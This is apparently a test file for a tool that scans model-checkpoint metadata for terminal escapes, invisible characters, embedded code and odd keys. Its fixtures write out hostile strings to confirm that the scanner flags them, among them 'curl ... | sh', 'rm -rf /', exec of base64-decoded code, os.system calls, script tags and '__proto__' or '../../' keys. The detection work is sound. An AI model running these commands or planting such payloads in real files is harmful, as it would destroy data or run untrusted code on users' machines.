/** Texts out of the file: what could attack a terminal, deceive a reader or wait for a program that runs it. */
import {
  type Finding,
  type GgufWriteEntry,
  memoryFileSet,
  openCheckpoint,
  openFileSet,
  quoted,
  writeGguf,
  writeSafetensors,
} from "@checkpoint-inspect/parser";
import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { describeReal, listReal, realData } from "../../../test-support/real-data.ts";
import { oddCharacters } from "../src/audit/text/characters.ts";
import { analyse } from "../src/index.ts";

function saidOf(findings: readonly Finding[]): string[] {
  return findings
    .filter(({ rule }) => rule.startsWith("text/"))
    .map(
      ({ severity, rule, message, tensor }) =>
        `${severity} ${rule}: ${message}${tensor === undefined ? "" : ` [${quoted(tensor)}]`}`,
    );
}

async function said(file: string, bytes: Uint8Array, more: Record<string, string> = {}): Promise<string[]> {
  const beside = Object.entries(more).map(([name, text]) => [name, new TextEncoder().encode(text)] as const);
  const checkpoint = await openFileSet(memoryFileSet("repo", { [file]: bytes, ...Object.fromEntries(beside) }));
  return saidOf(analyse(checkpoint).findings);
}

const ofGguf = (...metadata: readonly GgufWriteEntry[]): Promise<string[]> =>
  said("m.gguf", writeGguf({ metadata, tensors: [] }));
const text = (key: string, value: string): GgufWriteEntry => ({ key, type: "string", value });

/** What is said of `__metadata__` with these entries. */
const ofSafetensors = (metadata: Record<string, string>, name = "a.weight"): Promise<string[]> =>
  said(
    "model.safetensors",
    writeSafetensors([{ name, dtype: "U8", shape: [1], data: new Uint8Array(1) }], { metadata }),
  );

describe("characters", () => {
  it.each<[string, GgufWriteEntry, string]>([
    [
      "a key",
      text("\u001b[2Jgeneral.name", "x"),
      'warning text/control-characters: the metadata key "\\u001b[2Jgeneral.name" holds a terminal escape character (U+001B)',
    ],
    [
      "a value",
      text("general.name", "model\u001b]0;owned\u0007"),
      'warning text/control-characters: the value of "general.name" holds a terminal escape character (U+001B), a control character (U+0007)',
    ],
    [
      "a value that turns round",
      text("general.author", "\u202eatem"),
      'warning text/invisible-characters: the value of "general.author" holds a character that turns the direction of text (U+202E)',
    ],
    [
      "a value with hidden words",
      text("general.name", "llama\u{e0068}\u{e0069}"),
      'warning text/invisible-characters: the value of "general.name" holds 2 tag characters, which aren\'t shown (U+E0068), which spell "hi"',
    ],
    [
      "a value with a zero-width space",
      text("general.name", "lla\u200bma"),
      'note text/invisible-characters: the value of "general.name" holds a zero-width character (U+200B)',
    ],
    [
      "a short list",
      { key: "general.tags", type: "array", elementType: "string", value: ["fine", "not\u009bfine"] },
      'warning text/control-characters: the value of "general.tags" holds a terminal escape character (U+009B)',
    ],
  ])("finds them in %s", async (_, entry, expected) => {
    expect(await ofGguf(entry)).toEqual([expected]);
  });

  it("finds them in the name of a tensor, line ends too", async () => {
    expect(await ofSafetensors({}, "a\u202e\n.weight")).toEqual([
      'warning text/control-characters: a tensor\'s name holds a control character (U+000A) ["a\\u202e\\n.weight"]',
      'warning text/invisible-characters: a tensor\'s name holds a character that turns the direction of text (U+202E) ["a\\u202e\\n.weight"]',
    ]);
  });

  it("finds them in config.json", async () => {
    const weights = writeSafetensors([{ name: "a", dtype: "U8", shape: [1], data: new Uint8Array(1) }]);
    const config = JSON.stringify({ model_type: "llama", rope: { type: "\u001b[31mlinear" } });
    expect(await said("model.safetensors", weights, { "config.json": config })).toEqual([
      "warning text/control-characters: config.json rope.type holds a terminal escape character (U+001B)",
    ]);
  });

  it.each<[string, GgufWriteEntry]>([
    [
      "words of a tokenizer",
      { key: "tokenizer.ggml.tokens", type: "array", elementType: "string", value: ["\u200b", "\u001b"] },
    ],
    [
      "lines of a licence",
      text("general.license.text", "Apache\r\n\tLicense\u2028\ufeff 2.0\nhttps://www.apache.org/"),
    ],
    [
      "emoji, flags and letters of other scripts",
      text(
        "general.name",
        "\u{1f469}\u200d\u{1f4bb} \u{1f1e9}\u{1f1ea} \u2764\ufe0f \u0645\u06cc\u200c\u0631 \u901a\u4e49\u5343\u95ee \u00fc",
      ),
    ],
    ["a chat template, which has rules of its own", text("tokenizer.chat_template", "\u200b")],
  ])("leaves %s alone", async (_, entry) => {
    expect(await ofGguf(entry)).toEqual([]);
  });

  it("never lets a character through that a terminal obeys or a person can't see", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (any) => {
        expect(oddCharacters(quoted(any))).toEqual([]);
      }),
    );
  });

  it("names the first of many names, and counts the rest", async () => {
    const tensors = Array.from({ length: 300 }, (_, i) => ({
      name: `\u200bt${i}`,
      dtype: "U8",
      shape: [0],
      data: new Uint8Array(),
    }));
    const found = await said("model.safetensors", writeSafetensors(tensors));
    expect(found).toHaveLength(101);
  });
});

describe("code", () => {
  it.each([
    ["a script", "x", "<script>alert(1)</script>", "a script of a web page"],
    ["a link that runs", "x", "javascript:alert(1)", "a script of a web page"],
    ["a script in a description", "description", "Hello <script src=x>", "a script of a web page"],
    [
      "a call of exec",
      "encoded_payload",
      "import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))",
      "a call that runs code",
    ],
    ["a call of os.system", "x", "__import__('os').system('id')", "a call that runs code"],
    ["a call of subprocess", "x", "subprocess.Popen(['id'])", "a call that runs code"],
    ["a pipe to a shell", "x", "curl -s https://example.net/x | sh", "a shell command"],
    ["a removal", "x", "rm -rf /", "a shell command"],
    ["base64 of code", "x", btoa("import os; os.system('id > /tmp/x')"), "a call that runs code, encoded"],
    [
      "code in hex escapes",
      "x",
      [..."eval('1+1')"].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join(""),
      "a call that runs code, encoded",
    ],
  ])("finds %s", async (_, key, value, what) => {
    const found = await ofSafetensors({ [key]: value });
    expect(found.filter((line) => line.includes("text/code"))).toEqual([
      expect.stringContaining(`warning text/code: the value of "${key}" holds ${what}: `),
    ]);
  });

  it.each([
    [
      "a description that speaks of code",
      { description: "Call eval() to evaluate, see https://example.org. Don't rm -rf anything." },
    ],
    [
      "the workflow of ComfyUI",
      { prompt: '{"1":{"inputs":{"url":"https://example.org"}}}', workflow: '{"nodes":[{"text":"exec(1)"}]}' },
    ],
    [
      "the log of a training",
      { ss_tag_frequency: '{"img":{"a\u200bb":1}}', ss_training_comment: "see https://example.org" },
    ],
    [
      "the model specification",
      {
        "modelspec.sai_model_spec": "1.0.0",
        "modelspec.thumbnail": `data:image/jpeg;base64,${btoa("x".repeat(300))}`,
        "modelspec.implementation": "https://github.com/x/y",
      },
    ],
    ["what writers leave", { format: "mlx", version: "1.2.3", license: "MIT", accuracy: "94.5%" }],
    ["a hash", { sha: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08" }],
  ])("leaves %s alone", async (_, metadata) => {
    expect(await ofSafetensors(metadata)).toEqual([]);
  });
});

describe("addresses, keys and sizes", () => {
  it("notes the hosts of addresses where none is usual", async () => {
    expect(await ofSafetensors({ init: "load https://a.example.net/x and http://b.example.net" })).toEqual([
      'note text/web-address: the value of "init" names "a.example.net", "b.example.net"',
    ]);
  });

  it("leaves addresses alone where they belong", async () => {
    const usual = [
      "general.url",
      "general.repo_url",
      "general.license.link",
      "general.source.huggingface.repository",
      "general.base_model.0.repo_url",
      "general.description",
    ];
    expect(await ofGguf(...usual.map((key) => text(key, "https://huggingface.co/x/y")))).toEqual([]);
  });

  it("notes keys that trip programs up", async () => {
    expect(await ofGguf(text("__proto__", "x"), text("../../x", "y"))).toEqual([
      'note text/odd-key: the metadata key "__proto__" is a name that programs have for themselves',
      'note text/odd-key: the metadata key "../../x" is a path that leads out of a folder',
    ]);
  });

  it("notes a huge value, and reads the rest", async () => {
    expect(await ofSafetensors({ blob: "a b".repeat(400_000), x: "rm -rf /" })).toEqual([
      'warning text/code: the value of "x" holds a shell command: "rm -rf /"',
      'note text/huge-value: the value of "blob" has 1,200,000 characters, more than 1,048,576',
    ]);
  });

  it.each([
    ["letters", "aB1"],
    ["letters that almost are base64", `${"aB1".repeat(7)}aB `],
    ["blanks", " "],
    ["words of commands", "curl "],
    ["backslashes", "\\x41\\x4"],
    ["slashes", "http://"],
  ])("takes no longer than a blink for a megabyte of %s", async (_, piece) => {
    const checkpoint = await openFileSet(
      memoryFileSet("repo", {
        "m.gguf": writeGguf({ metadata: [text("x", piece.repeat(1_000_000 / piece.length))], tensors: [] }),
      }),
    );
    const before = performance.now();
    analyse(checkpoint);
    expect(performance.now() - before).toBeLessThan(1000);
  });
});

describeReal("files that others flagged", () => {
  const folder = ["safetensors-flagged", "promptfoo_modelaudit"] as const;
  it.each(listReal(...folder))("says the same of %s", async (name) => {
    const checkpoint = await openCheckpoint(realData(...folder, name));
    const found = saidOf(analyse(checkpoint).findings);
    expect(found).toEqual(
      name.startsWith("safe") ? [] : [expect.stringMatching(/^warning text\/code: the value of "encoded_payload"/)],
    );
    await checkpoint.close();
  });
});
